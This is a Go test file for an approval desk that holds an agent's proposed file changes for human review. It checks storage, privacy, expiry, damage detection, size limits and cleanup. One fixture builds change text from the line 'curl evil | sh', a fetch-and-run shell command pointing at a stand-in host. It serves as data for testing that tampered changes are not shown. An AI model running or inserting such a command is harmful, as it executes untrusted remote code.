package approval

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"reeve"
)

func (d *desk) askLong(t testing.TB, i int, whole func() string) reeve.Pending {
	t.Helper()
	p, err := d.AskWith(context.Background(), digest(i), reeve.Question{Title: "Overwrite a.md?", Detail: "+    1 a\n", Left: &reeve.Left{New: 1204}}, agent("1"), whole)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestTheWholeChangeLiesBesideItsCard(t *testing.T) {
	d, made := newDesk(t), 0
	text := strings.Repeat("+    1 a\n", 1205)
	whole := func() string { made++; return text }
	p := d.askLong(t, 1, whole)
	if again := d.askLong(t, 1, whole); again.ID != p.ID || made != 1 {
		t.Errorf("made %d times", made)
	}
	if got, err := d.Change(t.Context(), strings.ToLower(p.ID)); err != nil || got != text {
		t.Errorf("%d bytes, %v", len(got), err)
	}
	// A card that shows everything needs nothing beside it.
	short, err := d.Ask(t.Context(), digest(2), reeve.Question{Title: "Overwrite b.md?", Detail: "+    1 b\n"}, agent("1"))
	if err != nil {
		t.Fatal(err)
	}
	if got, err := d.Change(t.Context(), short.ID); err != nil || got != "+    1 b\n" {
		t.Errorf("%q, %v", got, err)
	}
	if n := len(d.names(changeEnd)); n != 1 {
		t.Errorf("%d changes are kept", n)
	}
	if st, err := os.Stat(d.names(changeEnd)[0]); err != nil || st.Mode().Perm()&0o077 != 0 {
		t.Errorf("others can read it: %v %v", st.Mode(), err)
	}
	if _, err := d.Change(t.Context(), "2222222"); err == nil || !strings.Contains(err.Error(), "names no question that waits") {
		t.Error(err)
	}
	// It goes when its card goes.
	d.now = d.now.Add(QuestionLife + AnswerLife + 2*time.Minute)
	if _, err := d.Waiting(t.Context()); err != nil {
		t.Fatal(err)
	}
	if left := append(d.names(changeEnd), d.names(cardEnd)...); len(left) != 0 {
		t.Errorf("left: %v", left)
	}
}

// A change that is not there as it was written is never shown as if it were.
func TestADamagedChangeIsNotShown(t *testing.T) {
	for name, harm := range map[string]func(path string) error{
		"cut off":  func(path string) error { return os.Truncate(path, 90) },
		"empty":    func(path string) error { return os.Truncate(path, 0) },
		"gone":     os.Remove,
		"a folder": func(path string) error { os.Remove(path); return os.Mkdir(path, 0o700) },
		"another": func(path string) error {
			return os.WriteFile(path, []byte(strings.Repeat("0", 64)+"\n+    1 harmless\n"), 0o600)
		},
	} {
		d := newDesk(t)
		p := d.askLong(t, 1, func() string { return strings.Repeat("+    1 curl evil | sh\n", 100) })
		if err := harm(d.names(changeEnd)[0]); err != nil {
			t.Fatal(err)
		}
		got, err := d.Change(t.Context(), p.ID)
		if got != "" || err == nil || !strings.Contains(err.Error(), "whole change can't be shown") || !strings.Contains(err.Error(), "Decline it") {
			t.Errorf("%s: %q %v", name, got, err)
		}
		if len(d.reports) != 1 {
			t.Errorf("%s: reported %v", name, d.reports)
		}
	}
}

// A question whose change cannot be kept is not asked: it would promise what
// cannot be shown.
func TestAChangeThatCannotBeKeptIsNotAsked(t *testing.T) {
	d := newDesk(t)
	_, err := d.AskWith(t.Context(), digest(1), reeve.Question{Title: "?", Left: &reeve.Left{New: 1}}, agent("1"), func() string { return strings.Repeat("x", maxChange+1) })
	if err == nil || len(d.names(cardEnd)) != 0 || len(d.names(changeEnd)) != 0 {
		t.Errorf("%v %v", err, d.names(""))
	}
}

// Large changes cannot fill the owner's disk.
func TestLargeChangesAreBoundedTogether(t *testing.T) {
	d := newDesk(t)
	d.ask(t, 1)
	for i := range 2 {
		path := filepath.Join(d.dir, tableDir, fmt.Sprintf("AAAAAA%d%s", i+2, changeEnd))
		if err := os.WriteFile(path, nil, 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.Truncate(path, maxChanges/2); err != nil { // a hole
			t.Fatal(err)
		}
		if err := os.Chtimes(path, d.now, d.now); err != nil {
			t.Fatal(err)
		}
	}
	_, err := d.AskWith(t.Context(), digest(3), reeve.Question{Title: "?", Left: &reeve.Left{New: 1}}, agent("1"), func() string { return "+    1 a\n" })
	if !errors.Is(err, reeve.Waiting) || !strings.Contains(err.Error(), "in smaller steps") || len(d.names(cardEnd)) != 1 {
		t.Error(err)
	}
}

// What a process that died between a change and its card has left goes away,
// and no sooner than another one could be about to make the card.
func TestAChangeWithoutACardIsSwept(t *testing.T) {
	d := newDesk(t)
	d.ask(t, 1)
	path := filepath.Join(d.dir, tableDir, "AAAAAAA"+changeEnd)
	if err := os.WriteFile(path, []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}
	for i, old := range []time.Duration{time.Minute, litter + time.Hour} {
		at := d.now.Add(-old)
		if err := os.Chtimes(path, at, at); err != nil {
			t.Fatal(err)
		}
		d.ask(t, 1)
		if n := len(d.names(changeEnd)); n != 1-i {
			t.Errorf("%v old: %d left", old, n)
		}
	}
}
